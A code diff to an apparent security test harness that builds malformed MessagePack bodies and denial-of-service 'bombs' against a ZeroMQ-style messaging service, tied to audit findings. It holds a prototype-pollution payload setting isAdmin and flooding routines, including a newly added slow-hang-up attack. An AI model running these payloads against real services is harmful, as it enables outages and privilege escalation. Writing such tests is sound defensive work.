@@ -3,6 +3,7 @@ import { bodyOf } from '../attacker-tools.js'
 
 const MESSAGE_BYTES = 15 * 2 ** 20
 const PAUSE_MS = 100
+const HANG_UP_MS = 2_000
 
 function filled(head, item, count) {
   const itemBytes = Buffer.from(item)
@@ -54,7 +55,7 @@ const BODIES = {
   'a claimed text': () => claimed(0xdb, 2 ** 32 - 1),
   'claimed bytes': () => claimed(0xc6, 2 ** 32 - 1),
   'text that is not UTF-8': () => filled(claimed(0xdb, 2 ** 20), [0xff], 2 ** 20),
-  '__proto__': () =>
+  __proto__: () =>
     Buffer.concat([Buffer.from([0x81, 0xa9]), Buffer.from('__proto__'), bodyOf({ isAdmin: true })]),
   constructor: () =>
     Buffer.concat([
@@ -106,6 +107,22 @@ export const BOMBS = [
       while (!attacker.over && !link.closed) {
         await session.sendBodies(bodies)
         attacker.count('messages', bodies.length)
+      }
+    },
+  },
+  {
+    name: 'slow-hang-up',
+    letter: 'f',
+    finding: 'F2',
+    abortsLibzmq: 'D-028',
+    about: 'more slow messages than are read in time, and hangs up',
+    run: async (attacker) => {
+      const { link, session } = await attacker.session()
+      const body = BODIES['32,000 keys']()
+      const endMs = performance.now() + HANG_UP_MS
+      while (!attacker.over && !link.closed && performance.now() < endMs) {
+        await session.sendBodies([body])
+        attacker.count('messages')
       }
     },
   },
